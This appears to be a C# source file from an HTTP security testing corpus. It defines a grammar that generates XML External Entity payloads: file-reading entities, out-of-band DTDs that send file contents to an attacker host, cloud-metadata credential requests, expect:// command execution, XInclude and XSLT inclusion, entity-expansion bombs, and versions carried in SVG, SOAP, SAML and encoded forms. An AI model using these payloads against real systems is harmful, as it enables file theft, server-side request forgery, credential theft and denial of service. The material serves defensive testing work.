namespace Weir.Http.Corpus.Attacks;

/// <summary>External entities, parameter entities, inclusion and entity bombs, in whole documents, in their declarations alone, and in the formats that carry XML.</summary>
internal static class Xxe
{
    public const string Text = """"
        §attack
        8× «wholedoc»
        4× «paramdoc»
        3× «doctypeonly»
        3× «carrier»
        2× «inclusion»
        2× «bomb»
        2× «dtdbody»
        «encoded»

        §prolog
        4×
        4× <?xml version="1.0"?>
        3× <?xml version="1.0" encoding="«UTF-8¦ISO-8859-1¦utf-8¦UTF-16¦UTF-7¦utf-16le»"?>
        <?xml version="1.0" standalone="«yes¦no»"?>
        <?xml version='1.0' encoding='utf-8'?>
        <?xml version="1.1"«¦ encoding="UTF-8"»?>
        §nlpart
        3×
        2× ␤
        ␠
        ␤␠␠
        §elem
        6× «foo¦root¦data¦test¦r¦a¦user¦message¦order¦item¦request¦note¦doc¦creds¦xml¦svg¦productId¦stockCheck»
        «word»
        «soap:Envelope¦methodCall¦feed¦rss¦Request¦UserInfo¦Autodiscover¦comment¦author¦reset¦login»
        §entname
        5× xxe
        3× «test¦file¦ent¦x¦a¦b¦foo¦send¦content¦payload¦entity¦sp¦ext¦bar¦xee¦hello»
        «rand»
        §sys
        4× SYSTEM «q1»
        PUBLIC «q2»
        §q1
        3× "«uripart»"
        '«uripart»'
        §q2
        "«publicid»" "«uripart»"
        '«publicid»' '«uripart»'
        §publicid
        «-//«rand→upper»//DTD «word»//EN¦«word»¦any_text¦«rand»¦-//W3C//DTD XHTML 1.0 Transitional//EN¦-//A/B/EN¦whatever¦»
        §uripart
        6× file://«unixfile»
        3× file:///«c:/windows/win.ini¦c:/boot.ini¦C:/Windows/System32/drivers/etc/hosts¦c:/windows/system32/license.rtf¦c:/inetpub/wwwroot/web.config»
        2× «unixfile»
        3× http://«evilhost»«¦:«port»»/««rand»¦xxe¦x¦evil¦a¦test¦malicious»«.dtd¦.dtd¦.xml¦¦?%data;»
        2× php://filter/«¦read=»«convert.base64-encode¦string.rot13¦zlib.deflate/convert.base64-encode»/resource=«index.php¦«unixfile»¦config.php¦../../«word».php¦http://«evilhost»/«rand»»
        expect://«expectcmd»
        http://169.254.169.254/latest/meta-data/«¦iam/security-credentials/«word»¦user-data»
        http://«127.0.0.1¦localhost¦«privateip»»:«port»/«¦«word»¦admin»
        «ftp¦gopher¦dict¦netdoc¦jar¦ldap¦data¦https¦phar¦compress.zlib»://«evilhost»«¦:«port»»/«rand»
        netdoc:«unixfile»
        jar:«http://«evilhost»¦file:///tmp»/«rand».«jar¦zip»!/«rand».«txt¦dtd»
        data://text/plain;base64,«rand→b64»
        \\«evilhost»\«rand»\«rand».dtd
        file:///«dev/random¦dev/urandom¦proc/self/environ¦dev/stdin¦»
        file://«localhost¦127.0.0.1»«unixfile»
        «C:\windows\win.ini¦file:///sys/power/image_size¦file:///usr/share/yelp/dtd/docbookx.dtd¦file:///opt/IBM/WebSphere/AppServer/properties/sip-app_1_0.dtd»
        §expectcmd
        «id¦ls¦whoami¦uname$IFS-a¦cat$IFS«unixfile»¦curl$IFS-O$IFS'«evilurl»'¦ping$IFS«oasthost»»
        §body
        5× <«$e:elem»>&«$n»;</«$e»>
        2× <«elem»><«$e:elem»>&«$n»;</«$e»><«$f:word»>«word»</«$f»></«elem»>
        <«elem»>«nlpart»  <«$e:elem»>«word»</«$e»>«nlpart»  <«$f:elem»>&«$n»;</«$f»>«nlpart»</«elem»>
        <«elem» «word»="&«$n»;"/>
        <«elem»>&«$n»;
        <«elem»>«word»&«$n»;</«elem»>
        &«$n»;
        §wholedoc
        6× «prolog»«nlpart»<!DOCTYPE «$r:elem»«blank»[«nlpart»<!ENTITY «$n:entname» «sys»>«nlpart»]>«nlpart»«body»
        3× «prolog»«nlpart»<!DOCTYPE «$r:elem» [«nlpart»<!ELEMENT «$r» «ANY¦(#PCDATA)¦(#ANY)¦EMPTY»>«nlpart»<!ENTITY «$n:entname» «sys»>«nlpart»]>«nlpart»<«$r»>&«$n»;</«$r»>
        «prolog»«nlpart»<!DOCTYPE «$r:elem» [<!ENTITY «entname» "«word»"><!ENTITY «$n:entname» «sys»>]>«nlpart»«body»
        «prolog»«nlpart»<!DOCTYPE «elem» «sys»>«nlpart»<«$e:elem»>«word»</«$e»>
        «prolog»<!DOCTYPE «elem» [<!ENTITY «$n:entname» "«<script>alert(1)</script>¦File not found!¦Doe¦«rand»¦' or 1=1--»">]>«body»
        «prolog»«nlpart»<!doctype «elem» [<!entity «$n:entname» «sys»>]>«body»
        §blank
        4× ␠
        §pent
        4× «xxe¦dtd¦remote¦ext¦file¦asd¦sp¦load¦d¦loader¦init»
        «rand»
        §paramdoc
        4× «prolog»«nlpart»<!DOCTYPE «elem» [«nlpart»<!ENTITY % «$p:pent» «sys»>«nlpart»%«$p»;«nlpart»]>«nlpart»«tailbody»
        3× «prolog»«nlpart»<!DOCTYPE «elem» [«nlpart»<!ENTITY % «$f:filent» SYSTEM "«uripart»">«nlpart»<!ENTITY % «$p:pent» SYSTEM "http://«evilhost»/«rand».dtd">«nlpart»%«$p»;«nlpart»%«sendent»;«nlpart»]>«nlpart»«tailbody»
        «prolog»<!DOCTYPE «elem» [<!ENTITY % «$p:pent» PUBLIC "«publicid»" "«uripart»">%«$p»;]>«tailbody»
        «prolog»<!DOCTYPE «elem» [<!ENTITY % local_dtd SYSTEM "file:///«usr/share/yelp/dtd/docbookx.dtd¦usr/share/xml/fontconfig/fonts.dtd¦C:/Windows/System32/wbem/xml/cim20.dtd¦opt/«rand»/«rand».dtd¦usr/share/xml/scrollkeeper/dtds/scrollkeeper-omf.dtd»"><!ENTITY % «ISOamso¦expr¦constant¦SuperClass¦«rand»» '«nested»'>%local_dtd;]>«tailbody»
        «prolog»<!DOCTYPE «elem» [<!ENTITY % a "<!ENTITY % b SYSTEM '«uripart»'>">%a;%b;]>
        §filent
        «file¦data¦payload¦content¦start¦goodies»
        §sendent
        «send¦all¦param1¦exfil¦trick¦print¦int¦out¦c¦payload»
        §tailbody
        2×
        2× <«$e:elem»>«word»</«$e»>
        <«elem»/>
        <«$e:elem»>&«sendent»;</«$e»>
        <stockCheck><productId>«num»</productId><storeId>«num»</storeId></stockCheck>
        §nested
        <!ENTITY &#x25; file SYSTEM "«uripart»"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///«rand»/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;
        «word»)><!ENTITY &#37; file SYSTEM "«uripart»"><!ENTITY &#37; «letter» "«rand»">
        §doctypeonly
        3× <!DOCTYPE «elem» [<!ENTITY «entname» «sys»>]>
        2× <!DOCTYPE «elem» «sys»>
        2× <!ENTITY «entname» «sys»>
        2× <!ENTITY % «pent» «sys»>
        <!DOCTYPE «elem» [<!ENTITY % «$p:pent» «sys»> %«$p»;]>
        <!DOCTYPE «elem» [<!ENTITY % «$p:pent» «sys»>%«$p»;
        <!DOCTYPE «elem» PUBLIC "«publicid»" "«uripart»"«¦ []»>
        <!ATTLIST «elem» «word» CDATA #IMPLIED "&«entname»;">
        <!NOTATION «rand» SYSTEM "«uripart»">
        <!DOCTYPE «elem» [<!ELEMENT «elem» ANY><!ENTITY «entname» «sys»>
        ]><!DOCTYPE «elem» [<!ENTITY «entname» «sys»>]>
        §dtdbody
        3× <!ENTITY % «$f:filent» SYSTEM "«uripart»">«nlpart»<!ENTITY % «$a:evalent» "<!ENTITY «pct» «$s:sendent» SYSTEM '«http¦ftp»://«evilhost»«¦:«port»»/?«letter»=%«$f»;'>">«nlpart»%«$a»;«nlpart»%«$s»;
        <!ENTITY % «$f:filent» SYSTEM "«uripart»"><!ENTITY % «$a:evalent» "<!ENTITY «pct» error SYSTEM 'file:///«rand»/%«$f»;'>">%«$a»;%error;
        <!ENTITY % «$a:evalent» "<!ENTITY «sendent» SYSTEM 'http://«evilhost»/%«filent»;'>">%«$a»;
        <!ENTITY «sendent» SYSTEM 'http://«evilhost»«¦:«port»»/?%«filent»;'>
        <!ENTITY % start "<![CDATA["><!ENTITY % «filent» SYSTEM "«uripart»"><!ENTITY % end "]]>"><!ENTITY all "%start;%«filent»;%end;">
        §evalent
        «eval¦all¦int¦wrapper¦parm¦print¦payl¦e»
        §pct
        «&#x25;¦&#37;¦%¦&#x0025;»
        §bomb
        2× «prolog»<!DOCTYPE «$r:elem» [<!ENTITY «$n:lolent» "«$n»">«level*2-6»]><«$r»>&«$n»«#5-9»;</«$r»>
        «prolog»<!DOCTYPE «elem» [<!ENTITY a0 "«rand»"><!ENTITY a1 "&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;"><!ENTITY a2 "&a1;&a1;&a1;&a1;&a1;&a1;&a1;">«¦<!ENTITY a3 "&a2;&a2;&a2;&a2;">»]><«elem»>&a«2¦3»;</«elem»>
        «prolog»<!DOCTYPE «elem» [<!ENTITY xxe "«letter*20-60»">]><«elem»>«recall*6-20»</«elem»>
        <!DOCTYPE «elem» [<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;"> %a;]>
        <!ENTITY «$n:entname» "&«$n»;&«$n»;">
        §recall
        &xxe;
        §lolent
        «lol¦ha¦x¦a¦dos»
        §level
        <!ENTITY «$n»«#1-9» "&«$n»«#1-9»;&«$n»«#1-9»;&«$n»«#1-9»;«¦&«$n»«#1-9»;&«$n»«#1-9»;»">
        §inclusion
        4× <«$e:elem» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include «¦parse="text" »href="«uripart»"«¦ parse="text"»/></«$e»>
        2× <xi:include «¦xmlns:xi="http://www.w3.org/2001/XInclude" »href="«uripart»"«¦ parse="text"»«/>¦><xi:fallback>«word»</xi:fallback></xi:include>»
        <?xml-stylesheet type="text/«xsl¦xml¦css»" href="«uripart»"?>«tailbody»
        <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:«include¦import» href="«uripart»"/></xsl:stylesheet>
        <xsl:copy-of select="document('«uripart»')"/>
        <xsl:value-of select="«document('«uripart»')¦unparsed-text('«uripart»', 'utf-8')¦php:function('file_get_contents','«unixfile»')»"/>
        <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:«include¦import¦redefine» «namespace="«word»" ¦»schemaLocation="«uripart»"/></xs:schema>
        <«elem» xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:«schemaLocation="«rand» ¦noNamespaceSchemaLocation="»«uripart»"/>
        <«elem» xmlns="«uripart»"/>
        §carrier
        2× «prolog»<!DOCTYPE svg [<!ENTITY «$n:entname» «sys»>]><svg «¦width="«#100-500»px" height="«#100-500»px" »xmlns="http://www.w3.org/2000/svg"«¦ version="1.1"»><text «¦font-size="16" »x="0" y="«#10-40»">&«$n»;</text></svg>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="«expect://«expectcmd»¦«uripart»»"></image></svg>
        2× «prolog»<!DOCTYPE «elem» [<!ENTITY «$n:entname» «sys»>]><«soap¦soapenv¦SOAP-ENV»:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><«$e:word»>&«$n»;</«$e»></soap:Body></soap:Envelope>
        <soap:Body><«$e:elem»><![CDATA[<!DOCTYPE doc [<!ENTITY % «$p:pent» SYSTEM "«uripart»"> %«$p»;]><xxx/>]]></«$e»></soap:Body>
        «prolog»<!DOCTYPE «methodCall¦foo» [<!ENTITY «$n:entname» «sys»>]><methodCall><methodName>«word».«word»</methodName><params><param><value><string>&«$n»;</string></value></param></params></methodCall>
        «prolog»<!DOCTYPE rss [<!ENTITY «$n:entname» «sys»>]><rss version="2.0"><channel><title>«word»</title><item><title>«word»</title><link>http://«evilhost»</link><description>&«$n»;</description></item></channel></rss>
        «prolog»<!DOCTYPE gpx [<!ENTITY «$n:entname» «sys»>]><gpx version="1.0"><wpt lat="«#1-90».0" lon="«#1-90».0"><name>&«$n»;</name></wpt></gpx>
        «prolog»<!DOCTYPE samlp:AuthnRequest [<!ENTITY «$n:entname» «sys»>]><samlp:AuthnRequest><saml:Issuer>&«$n»;</saml:Issuer></samlp:AuthnRequest>
        «prolog»<!DOCTYPE plist [<!ENTITY «$n:entname» «sys»>]><plist version="1.0"><dict><key>«word»</key><string>&«$n»;</string></dict></plist>
        <?xml version="1.0"?><!DOCTYPE x:xmpmeta [<!ENTITY % «$p:pent» «sys»> %«$p»;]><x:xmpmeta xmlns:x="adobe:ns:meta/"/>
        <?xml version="1.0" encoding="UTF-8" standalone="yes"?><!DOCTYPE «workbook¦document¦cdl¦sst» [<!ELEMENT cdl ANY><!ENTITY % «$p:pent» «sys»>%«$p»;«¦%c;»]><«workbook¦w:document¦sst»>&rrr;</«workbook¦w:document¦sst»>
        {"«param»":"«wholedoc→json»"}
        «xml¦data¦payload¦SAMLResponse¦request»=«wholedoc»
        <«elem»><![CDATA[«wholedoc»]]></«elem»>
        §encoded
        2× «wholedoc→url»
        «doctypeonly→url»
        «wholedoc→b64»
        «doctypeonly→entsome»
        «wholedoc→plus»
        <!DOCTYPE «elem» [<!ENTITY «$n:entname» SYSTEM "«unixfile→enthex»">]><«elem»>&«$n»;</«elem»>
        <?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE «elem»+AFs +ADwAIQ-ENTITY «$n:entname» SYSTEM +ACI-«uripart»+ACIAPgBdAD4«¦+ADw-«elem»+AD4-+ACY-«$n»+ADsAPA-/«elem»+AD4»
        """";
}
